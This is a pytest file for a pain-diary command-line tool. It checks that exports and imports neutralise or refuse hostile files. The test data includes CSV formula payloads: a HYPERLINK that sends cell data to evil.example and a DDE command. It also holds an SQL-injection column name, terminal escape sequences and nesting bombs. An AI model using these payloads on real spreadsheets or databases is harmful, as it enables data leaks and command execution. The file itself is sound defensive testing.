"""Hostile and unlucky files (issue 16, items 2, 12, 16 and 20).

A red-team review found: an export whose undo log made the next `undo` run SQL of the
attacker's choosing (2); CSV exports that a spreadsheet would run as formulas (12); an
import that took an id next to the top of SQLite's range, after which every new entry
had an id `edit` and `delete` refuse (16); deeply nested or 5,000-digit JSON and TOML
that ended in "internal error" (20). Each test makes that file for real and runs paceit
on it.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from helpers import checkpoint, done, fails, fixed_clock, logical_dump, ok, run

pytestmark = pytest.mark.usefixtures("_clock")


@pytest.fixture
def _clock(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with fixed_clock(monkeypatch):
        yield


def _snapshot(path: Path) -> list[str]:
    checkpoint(path)
    return logical_dump(path)


# --- item 12: a CSV export holds no formula a spreadsheet would run -----------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "=1+1",
    "'already quoted",
]


def _csv_cells(files: dict[str, str]) -> list[str]:
    tables = [text for name, text in files.items() if name.endswith(".csv")]
    return [cell for text in tables for row in csv.reader(io.StringIO(text)) for cell in row]


def _neutral(cell: str) -> bool:
    """Empty, a plain number (a spreadsheet reads -60 as a number), or not starting with
    what makes a spreadsheet evaluate the cell."""
    return not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("-").replace(".", "", 1).isdigit()


def test_csv_export_neutralises_formulas_and_says_so(isolated_db: Path, tmp_path: Path) -> None:
    ok("activity", "add", "walking", "--unit", "min", "--baseline", "10", "--at", "2026-11-01")
    for formula in FORMULAS:
        ok("pain", "4", "--note", formula, "--site", formula.replace(",", ";"), "--at", "2026-11-20T08:00")
        ok("goal", "add", "--", formula)
    ok("pain", "3", "--at", "2026-11-20T09:00-01:00", "--note", "fine")  # utc_offset -60: a number
    done("export", "--format", "csv", "--output", str(tmp_path / "folder"))
    done("export", "--output", str(tmp_path / "diary.zip"))
    done("export", "--output", str(tmp_path / "diary.json"))
    folder = {p.name: p.read_text() for p in (tmp_path / "folder").iterdir()}
    with zipfile.ZipFile(tmp_path / "diary.zip") as archive:
        zipped = {Path(n).name: archive.read(n).decode() for n in archive.namelist()}
    assert zipped == folder
    cells = _csv_cells(folder)
    assert all(_neutral(c) for c in cells), [c for c in cells if not _neutral(c)]
    for formula in FORMULAS:
        assert "'" + formula in cells  # one apostrophe in front: the text, shown as text
    assert "-60" in cells and "'-60" not in cells and "fine" in cells  # numbers and plain text untouched
    notes = [r["note"] for r in csv.DictReader(io.StringIO(folder["pain_entry.csv"]))]
    assert notes == ["'" + f for f in FORMULAS] + ["fine"]
    assert "apostrophe" in folder["README.txt"] and "formula" in folder["README.txt"]
    stored = json.loads((tmp_path / "diary.json").read_text())["tables"]["pain_entry"]["rows"]
    assert [r["note"] for r in stored] == [*FORMULAS, "fine"]  # the JSON export stays exact
    assert "formula" in ok("export", "--help").stdout


# --- item 16: an import never takes an id paceit would not give ----------------------------------

IMPORT_MAX_ID = 2**31 - 1


def _export_with_pain_id(tmp_path: Path, pain_id: int) -> Path:
    """An export of a diary with one pain entry, that entry's id changed to `pain_id`."""
    source = tmp_path / "source.db"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PACEIT_DB", str(source))
        ok("pain", "4", "--at", "2026-11-20T08:00", "--note", "from the other machine")
        done("export", "--output", str(tmp_path / "plain.json"))
    document = json.loads((tmp_path / "plain.json").read_text())
    document["tables"]["pain_entry"]["rows"][0]["id"] = pain_id
    for row in document["tables"]["audit"]["rows"]:
        row["row_key"] = str(pain_id)
        row["after"] = json.dumps(json.loads(row["after"]) | {"id": pain_id})
    target = tmp_path / f"id-{pain_id}.json"
    target.write_text(json.dumps(document))
    return target


@pytest.mark.parametrize("into", ["an empty diary", "a diary with entries"])
@pytest.mark.parametrize("pain_id", [2**62 - 1, 2**53, IMPORT_MAX_ID + 1])
def test_an_import_refuses_an_id_beyond_paceit_s_own_range(
    isolated_db: Path, tmp_path: Path, into: str, pain_id: int
) -> None:
    if into == "a diary with entries":
        ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db) if isolated_db.exists() else None
    line = fails("import", str(_export_with_pain_id(tmp_path, pain_id)))
    assert "'pain_entry'" in line and "field 'id'" in line and f"from 1 to {IMPORT_MAX_ID}" in line, line
    assert (_snapshot(isolated_db) if isolated_db.exists() else None) == before  # no new diary either


@pytest.mark.parametrize("into", ["an empty diary", "a diary with entries"])
def test_after_an_import_at_the_top_of_the_range_new_entries_can_be_edited(
    isolated_db: Path, tmp_path: Path, into: str
) -> None:
    if into == "a diary with entries":
        ok("pain", "2", "--at", "2026-11-19T08:00")
    done("import", str(_export_with_pain_id(tmp_path, IMPORT_MAX_ID)))
    ok("pain", "5", "--at", "2026-11-21T08:00")
    new_id = max(e["id"] for e in json.loads(ok("history", "--json").stdout))
    assert new_id == IMPORT_MAX_ID + 1
    ok("edit", "pain", str(new_id), "--pain", "6")
    ok("delete", "pain", str(new_id))
    ok("edit", "pain", str(IMPORT_MAX_ID), "--pain", "3")


# --- item 20: nesting and numbers too big to read are bad input, not an internal error ----------

DIGITS = "1" * 5000
JSON_FILES = {
    "nested lists": "[" * 100_000 + "]" * 100_000,
    "nested objects": '{"a":' * 50_000 + "1" + "}" * 50_000,
    "a 5,000-digit number": '{"paceit_export": ' + DIGITS + "}",
    "a 5,000-digit id in a row": '{"paceit_export": {"format": "paceit-export"}, "tables": {"pain_entry": {"rows": '
    '[{"id": ' + DIGITS + "}]}}}",
    "a 5,000-digit negative number": "[-" + DIGITS + "]",
}
TOML_FILES = {
    "nested arrays": "a = " + "[" * 100_000 + "]" * 100_000,
    "nested inline tables": "a = " + "{b = " * 20_000 + "1" + "}" * 20_000,
    "a 5,000-digit number": "a = " + DIGITS,
    "a 5,000-digit baseline": '[prescription]\nby = "Dr A"\n\n[[activity]]\nname = "walking"\nunit = "min"\n'
    "baseline = " + DIGITS + "\n",
    "a 5,000-digit hexadecimal baseline": '[prescription]\nby = "Dr A"\n\n[[activity]]\nname = "walking"\n'
    'unit = "min"\nbaseline = 0x' + "f" * 5000 + "\n",  # read whole (base 16 has no digit limit), too long to show
}


@pytest.mark.parametrize("kind", list(JSON_FILES))
def test_an_unreadable_json_import_is_one_plain_line(isolated_db: Path, tmp_path: Path, kind: str) -> None:
    ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db)
    path = tmp_path / "hostile.json"
    path.write_text(JSON_FILES[kind])
    line = fails("import", str(path))
    assert str(path) in line and "nothing was imported" in line and "internal error" not in line, line
    assert _snapshot(isolated_db) == before


@pytest.mark.parametrize("kind", list(TOML_FILES))
def test_an_unreadable_prescription_is_one_plain_line(isolated_db: Path, tmp_path: Path, kind: str) -> None:
    ok("pain", "2", "--at", "2026-11-19T08:00")
    before = _snapshot(isolated_db)
    path = tmp_path / "hostile.toml"
    path.write_text(TOML_FILES[kind])
    line = fails("prescription", "import", str(path))
    assert line.startswith(f"paceit: error: {path}: ") and "internal error" not in line, line
    assert _snapshot(isolated_db) == before


# --- item 2: the undo log of an import, and undo, trust nothing they did not check ---------------

INJECTION = "pain = ? WHERE ? OR 1 --"


def _diary_with_history(db: Path) -> None:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("PACEIT_DB", str(db))
        ok("pain", "3", "--at", "2026-11-19T08:00")
        ok("pain", "4", "--at", "2026-11-20T08:00")
        ok("pain", "6", "--at", "2026-11-21T08:00")
        ok("edit", "pain", "1", "--pain", "2")


def _audit_row(**changes: object) -> dict[str, object]:
    """A newest undo-log row, as an export holds it: an edit of pain entry 1."""
    before = {"id": 1, "pain": 3}
    return {
        "id": 99,
        "change_id": "0b7c5e9a-3f1d-4c2e-9a8b-1d2e3f4a5b6c",
        "at_utc": "2026-11-21 10:00:00",
        "command": "edit pain 1",
        "action": "update",
        "table_name": "pain_entry",
        "row_key": "1",
        "before": json.dumps(before),
        "after": json.dumps(before | {"pain": 2}),
        "undone_utc": None,
    } | changes


def _crafted_export(tmp_path: Path, name: str, audit: dict[str, object] | None = None,
                    version: dict[str, object] | None = None) -> Path:  # fmt: skip
    source = tmp_path / "source.db"
    if not source.exists():
        _diary_with_history(source)
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("PACEIT_DB", str(source))
            done("export", "--output", str(tmp_path / "source.json"))
    document = json.loads((tmp_path / "source.json").read_text())
    if audit is not None:
        document["tables"]["audit"]["rows"].append(audit)
    if version is not None:
        document["tables"]["schema_version"]["rows"].append(version)
    path = tmp_path / f"{name}.json"
    path.write_text(json.dumps(document))
    return path


def test_a_crafted_undo_log_cannot_run_sql_through_undo(isolated_db: Path, tmp_path: Path) -> None:
    """The attack of the review: an audit row whose `before` has a column name that is SQL.
    Copied into an empty diary, the next `undo` set every pain entry to 9."""
    crafted = _crafted_export(tmp_path, "attack", _audit_row(before=json.dumps({INJECTION: 9})))
    line = fails("import", str(crafted))
    assert "'audit'" in line and "field 'before'" in line and "column" in line, line
    assert not isolated_db.exists()


def test_undo_takes_column_names_only_from_the_diary_s_own_tables(isolated_db: Path) -> None:
    """The same row planted in the diary file itself (as a damaged or tampered file would
    hold it): undo refuses it, changes nothing, and `check` names the damage."""
    _diary_with_history(isolated_db)
    conn = sqlite3.connect(isolated_db)
    row = _audit_row(before=json.dumps({INJECTION: 9}))
    conn.execute(f"INSERT INTO audit ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", tuple(row.values()))
    conn.commit()
    conn.close()
    before = _snapshot(isolated_db)
    line = fails("undo", code=1)
    assert "undo log" in line and "paceit check" in line and "nothing was undone" in line, line
    assert _snapshot(isolated_db) == before
    assert [r["pain"] for r in json.loads(ok("history", "--json").stdout)] == [2, 4, 6]
    problem = fails("check", code=1)
    assert "undo log" in problem, problem
    assert json.loads(run("check", "--json").stdout)["undo_log_problems"] == 1


BAD_AUDIT = {
    "broken before JSON": ({"before": "{not json"}, "before"),
    "before not an object": ({"before": "[1, 2]"}, "before"),
    "before nested too deeply": ({"before": "[" * 100_000 + "]" * 100_000}, "before"),
    "a value that is a list": ({"before": json.dumps({"id": 1, "note": ["x"]})}, "before"),
    "an escape sequence in a value": ({"before": json.dumps({"id": 1, "note": "\x1b]8;;https://x\x07"})}, "before"),
    "NUL in a value": ({"after": json.dumps({"id": 1, "note": "a\x00b"})}, "after"),
    "an unknown column": ({"before": json.dumps({"id": 1, "colour": "red"})}, "before"),
    "another row's key": ({"before": json.dumps({"id": 2, "pain": 3})}, "before"),
    "an escape sequence in the command": ({"command": "edit pain 1\x1b[2J"}, "command"),
    "NUL in the change id": ({"change_id": "0b7c5e9a\x00"}, "change_id"),
    "an unknown action": ({"action": "drop"}, "action"),
    "an unknown table": ({"table_name": "sqlite_master"}, "table_name"),
    "a row key that is SQL": ({"row_key": "1 OR 1"}, "row_key"),
    "no before for an update": ({"before": None}, "before"),
    "a time not in the stored form": ({"at_utc": "yesterday"}, "at_utc"),
    "an undone time not in the stored form": ({"undone_utc": "\x1b[31m"}, "undone_utc"),
}


@pytest.mark.parametrize("kind", list(BAD_AUDIT))
def test_an_import_refuses_a_damaged_or_hostile_undo_log_row(isolated_db: Path, tmp_path: Path, kind: str) -> None:
    changes, field = BAD_AUDIT[kind]
    crafted = _crafted_export(tmp_path, "bad", _audit_row(**changes))
    line = fails("import", str(crafted))
    assert "'audit'" in line and f"field '{field}'" in line and "\x1b" not in line and "\x00" not in line, line
    assert not isolated_db.exists()
    ok("pain", "1", "--at", "2026-11-18T08:00")  # and into a diary with entries: refused as well
    before = _snapshot(isolated_db)
    assert "'audit'" in fails("import", str(crafted))
    assert _snapshot(isolated_db) == before


@pytest.mark.parametrize(
    ("version", "field"),
    [
        ({"version": 9, "description": "from the future", "applied_utc": "2026-11-21 10:00:00"}, "version"),
        ({"version": 0, "description": "before the first", "applied_utc": "2026-11-21 10:00:00"}, "version"),
        ({"version": 3.5, "description": "half", "applied_utc": "2026-11-21 10:00:00"}, "version"),
        ({"version": 2, "description": "\x1b[2J", "applied_utc": "2026-11-21 10:00:00"}, "description"),
        ({"version": 2, "description": "ok", "applied_utc": "now"}, "applied_utc"),
    ],
)
def test_an_import_refuses_a_schema_record_this_paceit_did_not_write(
    isolated_db: Path, tmp_path: Path, version: dict[str, object], field: str
) -> None:
    """An extra schema_version row 9 locked the new diary as "written by a newer paceit"."""
    line = fails("import", str(_crafted_export(tmp_path, "schema", version=version)))
    assert "'schema_version'" in line and f"field '{field}'" in line, line
    assert not isolated_db.exists()


def test_a_checked_export_still_copies_whole_and_undo_goes_on(isolated_db: Path, tmp_path: Path) -> None:
    done("import", str(_crafted_export(tmp_path, "plain")))
    assert [r["pain"] for r in json.loads(ok("history", "--json").stdout)] == [2, 4, 6]
    ok("undo")  # the copied history: the edit of entry 1
    assert [r["pain"] for r in json.loads(ok("history", "--json").stdout)] == [3, 4, 6]
    assert "in good order" in " ".join(ok("check").stdout.split())


PLANTED = ["{not json", json.dumps({INJECTION: 9}), json.dumps({"id": 2, "x": "\x1b[2J"}), "[2]"]


@pytest.mark.parametrize("damage", PLANTED)
def test_a_damaged_undo_log_in_the_diary_is_named_by_undo_import_and_check(
    isolated_db: Path, tmp_path: Path, damage: str
) -> None:
    """Before, a broken `before` made every later undo and import end in an internal
    error while `check` said all was well."""
    _diary_with_history(isolated_db)
    ok("delete", "pain", "2")
    conn = sqlite3.connect(isolated_db)
    conn.execute("UPDATE audit SET before = ? WHERE action = 'delete'", (damage,))
    conn.commit()
    conn.close()
    before = _snapshot(isolated_db)
    for args in (["undo"], ["import", str(_crafted_export(tmp_path, "plain"))], ["check"]):
        line = fails(*args, code=1)
        assert "undo log" in line and "internal error" not in line and "\x1b" not in line, (args, line)
    assert _snapshot(isolated_db) == before


def test_a_diary_written_before_the_text_rule_still_undoes(isolated_db: Path) -> None:
    """A note stored when bidi controls were still accepted (before issue 16) is no damage:
    undo brings it back as it was, and `check` is content."""
    ok("pain", "4", "--note", "placeholder", "--at", "2026-11-20T08:00")
    old_note = "\u05e9\u05dc\u05d5\u05dd \u202bkept\u202c"
    conn = sqlite3.connect(isolated_db)
    conn.execute("UPDATE pain_entry SET note = ?", (old_note,))
    conn.execute("UPDATE audit SET after = replace(after, 'placeholder', ?)", (json.dumps(old_note)[1:-1],))
    conn.commit()
    conn.close()
    ok("edit", "pain", "1", "--note", "new")
    ok("undo")
    assert json.loads(ok("history", "--json").stdout)[0]["note"] == old_note
    assert "in good order" in " ".join(ok("check").stdout.split())
    ok("undo")
    assert json.loads(ok("history", "--json").stdout) == []
